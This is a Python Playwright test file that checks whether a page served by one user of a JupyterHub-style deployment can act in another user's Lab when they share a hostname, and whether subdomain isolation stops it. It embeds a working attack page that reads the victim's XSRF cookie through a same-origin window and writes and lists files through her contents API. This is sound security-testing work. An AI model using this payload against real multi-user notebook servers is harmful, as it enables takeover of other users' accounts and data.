"""A page that somebody puts into their own server, opened by alice, who is signed in: what it can do in her Lab.

Under one name it can act as she does: that is how JupyterHub is, and here the attack. With http.subdomains it cannot.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from support.apart import PYTHON
from support.pages import PASSWORD, SLOW
from support.site import Site

EVIL = """<!doctype html><title>wait</title><script>
const wait = time => new Promise(done => setTimeout(done, time));
async function attack(base) {
  const said = [];
  // A window of the same site is an open book: what its scripts may know, this one may know.
  const her = window.open(base + "lab");
  let xsrf = "";
  for (let tries = 0; tries < 100 && !xsrf; tries++, await wait(100))
    try { xsrf = (her.document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1] }
    catch (refused) { said.push(refused); break }
  const body = JSON.stringify({type: "file", format: "text", content: "eve"});
  const more = {method: "PUT", credentials: "include", headers: {"Content-Type": "application/json"}, body};
  for (const [path, how] of [["api/contents/stolen.txt", more], ["api/contents/", {credentials: "include"}]])
    try { said.push(await (await fetch(base + path + "?_xsrf=" + xsrf, how)).text()) }
    catch (refused) { said.push(refused) }
  document.body.innerText = said.join(" ");
  document.title = "done";
}
window.onclick = () => attack(BASE);
</script><body>a harmless page</body>"""
SERVE = """
import http.server, os, socketserver, sys
page = sys.stdin.read().encode()
class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
        self.wfile.write(page)
    def address_string(self): return ""
path = "/run/manylab/servers/eve/_/server.sock"
os.unlink(path); os.umask(0o007)
server = socketserver.UnixStreamServer(path, Evil)
print("ready", flush=True); server.serve_forever()
"""


@contextlib.contextmanager
def evil(site: Site, browser: Browser, hub: str, base: str) -> Iterator[None]:
    """While eve's own program answers in the place of her server, with a page that is after what is at `base`."""
    context = browser.new_context(locale="en-US")
    in_the_lab_of("eve", context.new_page(), hub)
    context.close()
    site.machine.write("/home/eve/page.html", EVIL.replace("BASE", repr(base)), owner="eve")
    site.machine.write("/home/eve/serve.py", SERVE, owner="eve")
    argv = ["/bin/sh", "-c", f"exec {PYTHON} -I /home/eve/serve.py < /home/eve/page.html"]
    with site.machine.popen(argv, user="eve", cwd="/") as running:
        running.wait_for_output("ready", 60)
        yield


def in_the_lab_of(name: str, page: Page, hub: str) -> None:
    """They sign in and their Lab is there."""
    page.goto(f"{hub}/hub/login")
    page.fill("#username_input", name)
    page.fill("#password_input", PASSWORD)
    page.click("#login_submit, form [type=submit]")
    page.wait_for_url(re.compile(f"/user/{name}/lab"), timeout=SLOW)
    expect(page.locator("#jp-MainMenu")).to_be_visible(timeout=SLOW)


def opens(page: Page, url: str) -> str:
    """What the page shows when it has done what it can."""
    page.goto(url)
    page.click("body")  # a browser opens a window for somebody who clicks
    page.wait_for_function("document.title == 'done'", timeout=SLOW)
    return page.inner_text("body")


@pytest.mark.parametrize("subdomains", [False, True], ids=["one-name", "subdomains"])
def test_a_page_of_eves_can_act_in_alices_lab_only_where_they_share_a_name(
    page: Page, chromium: Browser, subdomains: bool
) -> None:
    with Site("bookworm") as site:
        port = site.machine.port
        hub, alices, eves = (f"http://{name}lab.localhost:{port}" for name in ("", "alice.", "eve."))
        if subdomains:
            site.configure(f'[http]\npublic_url = "{hub}"\nsubdomains = true\n')
        else:
            hub = alices = eves = f"http://127.0.0.1:{port}"
        for name in ("alice", "eve"):
            site.add_user(name, PASSWORD)
        with site.up():
            in_the_lab_of("alice", page, hub)
            assert page.url.startswith(f"{alices}/user/alice/lab")
            with evil(site, chromium, hub, f"{alices}/user/alice/" if subdomains else "/user/alice/"):
                shown = opens(page, f"{eves}/user/eve/page.html")
            assert site.machine.exists("/home/alice/stolen.txt") is not subdomains, shown
            assert ("stolen.txt" in shown) is not subdomains
            # And her Lab is as it was.
            page.goto(f"{alices}/user/alice/lab")
            expect(page.locator("#jp-MainMenu")).to_be_visible(timeout=SLOW)
            assert site.manylab("status", "--json").returncode == 0
